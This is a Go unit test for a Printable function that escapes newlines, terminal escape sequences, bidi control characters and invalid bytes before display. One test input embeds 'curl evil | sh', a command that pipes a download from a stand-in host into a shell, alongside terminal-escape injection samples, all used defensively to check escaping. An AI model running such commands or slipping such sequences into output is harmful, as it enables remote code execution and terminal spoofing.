package show_test

import (
	"testing"

	"github.com/gpuplan/gpuplan/model/show"
)

func TestPrintable(t *testing.T) {
	tests := []struct{ in, want string }{
		{"Llama 3.1 8B", "Llama 3.1 8B"},
		{"模型", "模型"},
		{"x\ncurl evil | sh", `x\ncurl evil | sh`},
		{"\x1b]0;t\x07", `\x1b]0;t\x07`},
		{"a\u009bb", `a\x9bb`},
		{"a\u2066b", `a\u2066b`},
		{"a\u2028b: 1\u2029", `a\u2028b: 1\u2029`},
		{"\xff", `\xff`},
	}
	for _, tt := range tests {
		if got := show.Printable(tt.in); got != tt.want {
			t.Errorf("Printable(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}
